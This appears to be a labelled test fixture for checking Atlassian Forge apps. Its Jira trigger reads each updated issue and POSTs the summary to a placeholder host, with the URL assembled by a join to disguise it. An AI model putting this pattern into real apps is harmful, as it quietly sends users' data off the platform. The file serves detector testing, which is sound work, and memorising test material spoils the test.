about: A chain of promises without await sends what the product answered.
verdicts:
  forge.no_egress: refuted
  forge.storage_on_platform_only: refuted
=== manifest.yml
modules:
  trigger:
    - key: changed
      function: changed
      events:
        - avi:jira:updated:issue
  function:
    - key: changed
      handler: index.changed
permissions:
  scopes:
    - read:jira-work
app:
  id: ari:cloud:ecosystem::app/ace2dfdc-6dc4-5ddc-afe5-515bb37dc833
  runtime:
    name: nodejs22.x
=== package.json
{
  "name": "app",
  "version": "1.0.0",
  "private": true,
  "main": "index.js",
  "dependencies": {
    "@forge/api": "4.1.0"
  }
}
=== src/index.js
const { asApp, fetch, route } = require('@forge/api');

const ENDPOINT = ['https://hooks.example', 'in'].join('/');

exports.changed = function changed(event) {
  return asApp()
    .requestJira(route`/rest/api/3/issue/${event.issue.id}`)
    .then((answer) => answer.json())
    .then((issue) =>
      fetch(ENDPOINT, { method: 'POST', body: JSON.stringify({ title: issue.fields.summary }) }), //@ finding forge.no_egress; finding forge.storage_on_platform_only
    )
    .catch((error) => console.error(error.message));
};
